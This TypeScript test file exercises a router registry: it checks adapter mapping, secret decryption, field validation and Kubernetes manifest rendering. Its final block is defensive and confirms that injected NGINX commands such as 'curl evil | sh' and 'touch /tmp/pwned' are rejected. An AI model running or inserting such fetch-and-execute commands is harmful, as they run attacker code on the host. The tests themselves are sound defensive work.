import crypto from "node:crypto";
import { parseAllDocuments } from "yaml";
import { describe, expect, it } from "vitest";
import { KIND_HELP } from "@/components/routers/kind-help";
import { encryptSecret, SecretBoxError } from "@/lib/crypto/secret-box";
import {
  checkRouterRegistration,
  createRouterAdapter,
  isKubernetesKind,
  renderRouterManifest,
  ROUTER_KINDS,
  routerKindFromType,
  routerTargetFromRow,
  type RouterRow,
} from "./registry";
import { baseConfig } from "./k8s/fixtures";
import { RouterError, type RouterKind } from "./types";
import { NginxAdapter, nginxHostConfig } from "./nginx";

const key = crypto.randomBytes(32);
const row = (over: Partial<RouterRow> = {}): RouterRow => ({
  id: "r1",
  name: "Edge Mesh",
  type: "builtin",
  endpoint: "http://127.0.0.1:7201",
  settings: {},
  secretEncrypted: null,
  ...over,
});
const KUBECONFIG = [
  "apiVersion: v1",
  "kind: Config",
  "clusters: [{ name: c, cluster: { server: 'http://127.0.0.1:1' } }]",
  "users: [{ name: u, user: { token: abc } }]",
  "contexts: [{ name: x, context: { cluster: c, user: u } }]",
  "current-context: x",
].join("\n");
const targetOf = (kind: RouterKind) => ({
  id: "r1",
  name: "Edge Mesh",
  kind,
  endpoint: KIND_HELP[kind].endpointExample,
  settings: KIND_HELP[kind].settingsExample,
  secret: isKubernetesKind(kind) ? KUBECONFIG : "s3cret",
});

describe("router registry", () => {
  it("maps every kind to an adapter of that kind", () => {
    for (const kind of ROUTER_KINDS) expect(createRouterAdapter(targetOf(kind)).kind).toBe(kind);
    expect(ROUTER_KINDS).toHaveLength(8);
  });

  it("maps Prisma router types onto RouterKind one to one", () => {
    for (const kind of ROUTER_KINDS) expect(routerKindFromType(kind)).toBe(kind);
    expect(ROUTER_KINDS.filter(isKubernetesKind)).toEqual(["istio", "gateway_api", "smi", "argo_rollouts"]);
  });

  it("builds a target from a row, decrypting the secret", () => {
    const secretEncrypted = encryptSecret("router-token", key);
    const t = routerTargetFromRow(row({ type: "gateway_api", settings: { namespace: "ml" }, secretEncrypted }), key);
    expect(t).toEqual({
      id: "r1",
      name: "Edge Mesh",
      kind: "gateway_api",
      endpoint: "http://127.0.0.1:7201",
      settings: { namespace: "ml" },
      secret: "router-token",
    });
    expect(routerTargetFromRow(row({ settings: null as never }), key)).toMatchObject({ settings: {}, secret: null });
    expect(() => routerTargetFromRow(row({ secretEncrypted }), crypto.randomBytes(32))).toThrow(SecretBoxError);
  });

  it("refuses an adapter whose settings don't parse, as invalid_config", () => {
    const bad = () => createRouterAdapter({ ...targetOf("haproxy"), settings: { servers: {} } });
    expect(bad).toThrow(RouterError);
    expect(() => createRouterAdapter({ ...targetOf("istio"), settings: {} })).toThrow(/host/);
  });

  it("hands the Kubernetes adapters the kubeconfig from the secret", async () => {
    const adapter = createRouterAdapter({
      ...targetOf("smi"),
      settings: { ...KIND_HELP.smi.settingsExample, timeoutMs: 500 },
    });
    const health = await adapter.health();
    expect(health.status).toBe("down");
    expect(health.detail).toMatch(/ECONNREFUSED/);
  });
});

describe("registration checks", () => {
  it("accepts every example the form shows", () => {
    for (const kind of ROUTER_KINDS) {
      const h = KIND_HELP[kind];
      expect(
        checkRouterRegistration({ kind, endpoint: h.endpointExample, settings: h.settingsExample, hasSecret: true }),
        kind,
      ).toEqual([]);
    }
  });

  it("names the bad field: endpoint, settings.<field>, unknown keys, secret", () => {
    expect(checkRouterRegistration({ kind: "builtin", endpoint: "ftp://x", settings: {}, hasSecret: true })).toEqual([
      { name: "endpoint", reason: "Must be an http:// or https:// URL" },
    ]);
    expect(
      checkRouterRegistration({
        kind: "haproxy",
        endpoint: "nope",
        settings: KIND_HELP.haproxy.settingsExample,
        hasSecret: false,
      })[0],
    ).toMatchObject({ name: "endpoint", reason: expect.stringMatching(/unix:\/path or tcp:\/\/host:port/) });
    expect(
      checkRouterRegistration({
        kind: "haproxy",
        endpoint: "tcp://127.0.0.1:9999",
        settings: { backend: "bad name", servers: { champion: "c" } },
        hasSecret: false,
      }),
    ).toEqual([{ name: "settings.backend", reason: "Must be a HAProxy backend name" }]);
    expect(
      checkRouterRegistration({
        kind: "nginx",
        endpoint: "x",
        settings: { ...KIND_HELP.nginx.settingsExample, statusUrl: "https://x" },
        hasSecret: false,
      }),
    ).toEqual([{ name: "settings.statusUrl", reason: "Must be an http:// URL" }]);
    expect(
      checkRouterRegistration({ kind: "builtin", endpoint: "http://x", settings: { timeoutMS: 5 }, hasSecret: true }),
    ).toEqual([{ name: "settings.timeoutMS", reason: "Unknown setting for builtin routers" }]);
    expect(
      checkRouterRegistration({
        kind: "haproxy",
        endpoint: "tcp://h:1",
        settings: { ...KIND_HELP.haproxy.settingsExample, weight: 1 },
        hasSecret: false,
      }),
    ).toEqual([{ name: "settings.weight", reason: "Unknown setting for haproxy routers" }]);
    expect(
      checkRouterRegistration({
        kind: "gateway_api",
        endpoint: "https://k",
        settings: { namespace: "ml" },
        hasSecret: false,
      }).map((i) => i.name),
    ).toEqual(["settings.parentRefs", "settings.port"]);
    expect(
      checkRouterRegistration({ kind: "webhook", endpoint: "https://hook", settings: {}, hasSecret: false }),
    ).toEqual([{ name: "secret", reason: expect.stringMatching(/signing secret is required/) }]);
    expect(
      checkRouterRegistration({ kind: "builtin", endpoint: "http://x", settings: {}, hasSecret: false })[0]!.name,
    ).toBe("secret");
  });

  it("keeps kubeconfigs out of settings", () => {
    const issues = checkRouterRegistration({
      kind: "istio",
      endpoint: "https://k",
      settings: { ...KIND_HELP.istio.settingsExample, kubeconfig: "apiVersion: v1" },
      hasSecret: false,
    });
    expect(issues).toEqual([{ name: "settings.kubeconfig", reason: expect.stringMatching(/secret field/) }]);
  });
});

describe("show manifest", () => {
  it("renders the YAML the adapter applies, named after the router like the adapter names it", () => {
    const yaml = renderRouterManifest(
      { kind: "istio", name: "Edge Mesh", settings: { ...KIND_HELP.istio.settingsExample, kubeconfig: "secret!" } },
      baseConfig(),
    );
    const docs = parseAllDocuments(yaml).map((d) => d.toJS());
    expect(docs.map((d) => `${d.kind}/${d.metadata.name}`)).toEqual([
      "DestinationRule/switchyard-edge-mesh",
      "VirtualService/switchyard-edge-mesh",
    ]);
    expect(yaml).not.toContain("secret!");
    const named = renderRouterManifest(
      {
        kind: "gateway_api",
        name: "Edge Mesh",
        settings: { ...KIND_HELP.gateway_api.settingsExample, name: "tickets" },
      },
      baseConfig(),
    );
    expect(parseAllDocuments(named)[0]!.toJS().metadata.name).toBe("tickets");
    expect(() => renderRouterManifest({ kind: "haproxy", name: "x", settings: {} }, baseConfig())).toThrow(
      /no Kubernetes manifests/,
    );
  });
});

describe("NGINX commands come from the controller's configuration, never from router settings", () => {
  it("a registration carrying nginxBinary or reloadCommand is refused, naming the field and where it belongs", () => {
    for (const [key, value, env] of [
      ["reloadCommand", ["sh", "-c", "curl evil | sh"], "SWITCHYARD_NGINX_RELOAD_COMMAND"],
      ["nginxBinary", "/tmp/evil", "SWITCHYARD_NGINX_BINARY"],
    ] as const) {
      const issues = checkRouterRegistration({
        kind: "nginx",
        endpoint: "http://10.0.3.12:8080",
        settings: { ...KIND_HELP.nginx.settingsExample, [key]: value },
        hasSecret: false,
      });
      expect(issues).toEqual([{ name: `settings.${key}`, reason: expect.stringContaining(env) }]);
    }
  });

  it("a stored router still carrying them can't run them: the adapter refuses the settings", () => {
    const settings = { ...KIND_HELP.nginx.settingsExample, reloadCommand: ["touch", "/tmp/pwned"] };
    expect(() => new NginxAdapter({ settings })).toThrow(/not a router setting/);
  });

  it("the binary and reload command are read from the controller's environment", () => {
    expect(nginxHostConfig({})).toEqual({ binary: "/usr/sbin/nginx" });
    expect(
      nginxHostConfig({
        SWITCHYARD_NGINX_BINARY: "/opt/nginx/sbin/nginx",
        SWITCHYARD_NGINX_RELOAD_COMMAND: '["systemctl","reload","nginx"]',
      }),
    ).toEqual({ binary: "/opt/nginx/sbin/nginx", reloadCommand: ["systemctl", "reload", "nginx"] });
    expect(() => nginxHostConfig({ SWITCHYARD_NGINX_RELOAD_COMMAND: "systemctl reload nginx" })).toThrow(/JSON array/);
    const adapter = new NginxAdapter(
      { settings: KIND_HELP.nginx.settingsExample },
      nginxHostConfig({ SWITCHYARD_NGINX_RELOAD_COMMAND: '["true"]' }),
    );
    expect(adapter.host.reloadCommand).toEqual(["true"]);
  });
});
